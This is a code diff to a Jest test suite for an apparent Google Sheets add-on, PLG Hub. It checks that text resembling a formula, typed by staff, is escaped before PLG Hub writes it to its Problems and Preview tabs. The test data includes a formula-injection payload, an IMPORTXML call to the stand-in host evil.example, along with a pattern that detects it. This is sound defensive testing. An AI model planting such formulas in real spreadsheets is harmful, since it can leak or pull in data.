@@ -11,6 +11,7 @@ import { filePermissions } from '../../src/emulator/drive';
 import { startSchool, type EmulatedSchool } from '../../src/emulator/harness';
 import { readSheetValues } from '../../src/emulator/spreadsheet';
 import { sheetByName, spreadsheetData } from '../../src/emulator/spreadsheet/model';
+import { EmulatedRange } from '../../src/emulator/spreadsheet/range';
 
 jest.setTimeout(60_000);
 
@@ -20,7 +21,10 @@ const guestGroup = 'MATH-1';
 function setSetting(s: EmulatedSchool, label: string, value: string): void {
   const sheets = s.globals.SpreadsheetApp as GoogleAppsScript.Spreadsheet.SpreadsheetApp;
   const settings = sheets.openById(s.spreadsheetId).getSheetByName('Settings')!;
-  const row = settings.getDataRange().getValues().findIndex((r) => r[0] === label);
+  const row = settings
+    .getDataRange()
+    .getValues()
+    .findIndex((r) => r[0] === label);
   if (row < 0) throw new Error(`Settings has no row "${label}"`);
   settings.getRange(row + 1, 2).setValue(value);
 }
@@ -29,8 +33,21 @@ function setSetting(s: EmulatedSchool, label: string, value: string): void {
 function schoolWithGuest(): EmulatedSchool {
   const s = startSchool({ seed: 4, staff: 30, withFindings: false });
   s.school.settings['School year end'] = '2026-10-30';
-  s.school.tabs.Staff!.push({ Email: guest, Name: 'Pat Visitor', Role: 'coach', Department: 'Instruction', 'Grade levels': '', Active: 'Yes' });
-  s.school.tabs.Members!.push({ 'Group id': guestGroup, 'Staff email': guest, 'Role in group': 'member', From: '', Until: '' });
+  s.school.tabs.Staff!.push({
+    Email: guest,
+    Name: 'Pat Visitor',
+    Role: 'coach',
+    Department: 'Instruction',
+    'Grade levels': '',
+    Active: 'Yes',
+  });
+  s.school.tabs.Members!.push({
+    'Group id': guestGroup,
+    'Staff email': guest,
+    'Role in group': 'member',
+    From: '',
+    Until: '',
+  });
   setUpAndFill(s);
   return s;
 }
@@ -53,7 +70,9 @@ describe('sharing', () => {
     expect(open).toEqual([]);
     const outsiders = files.flatMap((f) => {
       const p = filePermissions(school.ws, f.id);
-      return [...p.editors, ...p.commenters, ...p.viewers].filter((e) => !e.endsWith('@school.example')).map((e) => `${f.name}: ${e}`);
+      return [...p.editors, ...p.commenters, ...p.viewers]
+        .filter((e) => !e.endsWith('@school.example'))
+        .map((e) => `${f.name}: ${e}`);
     });
     expect(outsiders).toEqual([]);
   });
@@ -83,34 +102,65 @@ describe('a guest outside the school domain in a group', () => {
 });
 
 describe('text typed into the registry that looks like a formula', () => {
-  const typed = ['=IMPORTXML("https://evil.example/x","//a")', '+SUM(1,2)', '-2+3', '@evil'];
+  // As a person types literal text in Sheets: a leading apostrophe keeps "=…", "+…", "-…" from becoming a
+  // formula in the registry itself; "@…" needs none. PLG Hub then reads the text without the apostrophe.
+  const typed = ['\'=IMPORTXML("https://evil.example/x","//a")', "'+SUM(1,2)", "'-2+3", '@evil'];
+  const startsLikeAFormula = /^[=+\-@]/;
 
-  it('never comes back as a formula, or unescaped, on the tabs PLG Hub writes', () => {
-    const s = startSchool({ seed: 6, staff: 30, withFindings: false });
-    s.school.settings['School year end'] = '2026-10-30';
-    const groups = s.school.tabs.Groups!;
-    groups[0]!.Name = typed[0];
-    groups[1]!.Location = typed[1];
-    groups[2]!['Weekday'] = typed[2];
-    s.school.tabs.Members!.push({ 'Group id': groups[0]!['Group id'], 'Staff email': typed[3], 'Role in group': 'member', From: '', Until: '' });
-    s.school.tabs.Goals!.push({ 'Goal id': typed[1], Goal: typed[0] });
-    setUpAndFill(s);
-    s.press(s.open('onSheetsHomepage'), 'Validate');
-    s.press(s.open('onSheetsHomepage'), 'Preview changes');
+  it('is escaped in every value PLG Hub writes to the Problems and Preview tabs', () => {
+    const writes: { tab: string; value: string }[] = [];
+    const record = (range: EmulatedRange, values: unknown[][]) => {
+      const tab = (range as unknown as GoogleAppsScript.Spreadsheet.Range).getSheet().getName();
+      for (const value of values.flat()) if (typeof value === 'string') writes.push({ tab, value });
+    };
+    const setValues = EmulatedRange.prototype.setValues;
+    const setValue = EmulatedRange.prototype.setValue;
+    jest.spyOn(EmulatedRange.prototype, 'setValues').mockImplementation(function (
+      this: EmulatedRange,
+      values: unknown[][],
+    ) {
+      record(this, values);
+      return setValues.call(this, values);
+    });
+    jest.spyOn(EmulatedRange.prototype, 'setValue').mockImplementation(function (this: EmulatedRange, value: unknown) {
+      record(this, [[value]]);
+      return setValue.call(this, value);
+    });
+    try {
+      const s = startSchool({ seed: 6, staff: 30, withFindings: false });
+      s.school.settings['School year end'] = '2026-10-30';
+      const groups = s.school.tabs.Groups!;
+      groups[0]!.Name = typed[0];
+      groups[1]!.Location = typed[1];
+      const renamed = groups[2]!['Group id'];
+      groups[2]!['Group id'] = typed[2];
+      for (const m of s.school.tabs.Members!) if (m['Group id'] === renamed) m['Group id'] = typed[2];
+      s.school.tabs.Members!.push({
+        'Group id': groups[0]!['Group id'],
+        'Staff email': typed[3],
+        'Role in group': 'member',
+        From: '',
+        Until: '',
+      });
+      s.school.tabs.Goals!.push({ 'Goal id': typed[1], Goal: typed[0] });
+      setUpAndFill(s);
+      writes.length = 0; // what the admin typed is not PLG Hub's writing
+      s.press(s.open('onSheetsHomepage'), 'Validate');
+      s.press(s.open('onSheetsHomepage'), 'Preview changes');
 
-    const written = ['Problems', 'Preview'];
-    const book = spreadsheetData(s.ws, s.spreadsheetId);
-    for (const tab of written) {
-      const sheet = sheetByName(book, tab)!;
-      const formulas = Object.values(sheet.rows).flatMap((row) => Object.values(row)).filter((c) => c.formula !== undefined);
-      expect({ tab, formulas }).toEqual({ tab, formulas: [] });
-      const cells = readSheetValues(s.ws, s.spreadsheetId, tab).flat().map(String);
-      expect({ tab, unescaped: cells.filter((c) => /^[=+\-@]/.test(c)) }).toEqual({ tab, unescaped: [] });
+      const ours = writes.filter((w) => w.tab === 'Problems' || w.tab === 'Preview');
+      // The typed text did reach both tabs (so the check below has something to catch) …
+      expect(ours.filter((w) => w.tab === 'Problems').some((w) => w.value.includes('@evil'))).toBe(true);
+      expect(ours.filter((w) => w.tab === 'Preview').some((w) => w.value.startsWith("'=IMPORTXML"))).toBe(true);
+      // … and never as the start of a cell Sheets would read as a formula.
+      expect(ours.filter((w) => startsLikeAFormula.test(w.value))).toEqual([]);
+      const book = spreadsheetData(s.ws, s.spreadsheetId);
+      for (const tab of ['Problems', 'Preview']) {
+        const cells = Object.values(sheetByName(book, tab)!.rows).flatMap((row) => Object.values(row));
+        expect({ tab, formulas: cells.filter((c) => c.formula !== undefined) }).toEqual({ tab, formulas: [] });
+      }
+    } finally {
+      jest.restoreAllMocks();
     }
-    // The person's words are still there to read, not dropped.
-    const problems = readSheetValues(s.ws, s.spreadsheetId, 'Problems').flat().map(String).join('\n');
-    expect(problems).toContain('@evil');
-    const preview = readSheetValues(s.ws, s.spreadsheetId, 'Preview').flat().map(String).join('\n');
-    console.log(preview.slice(0, 1500));
   });
 });
